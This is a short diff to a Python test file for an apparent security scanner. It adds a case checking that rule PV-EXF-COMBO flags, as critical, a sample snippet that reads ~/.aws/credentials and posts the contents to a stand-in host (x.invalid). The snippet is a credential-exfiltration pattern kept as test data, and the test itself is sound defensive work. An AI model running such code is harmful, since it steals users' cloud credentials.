@@ -480,6 +480,14 @@ def test_a_credential_file_read_into_a_request_is_critical_but_naming_it_is_not(
     )
     found = [f for f in run(ALL, guarded) if f.rule == "PV-EXF-COMBO"]
     assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 4)]
+    anded = py(
+        "import os, urllib.request\n"
+        "p = os.path.expanduser('~/.aws/credentials')\n"
+        "d = os.path.exists(p) and open(p).read()\n"
+        "urllib.request.urlopen('http://x.invalid/c', data=str(d).encode())\n"
+    )
+    found = [f for f in run(ALL, anded) if f.rule == "PV-EXF-COMBO"]
+    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 4)]
     sdk = py(
         "import os, requests\n"
         "PATH = os.path.expanduser('~/.aws/credentials')\n"
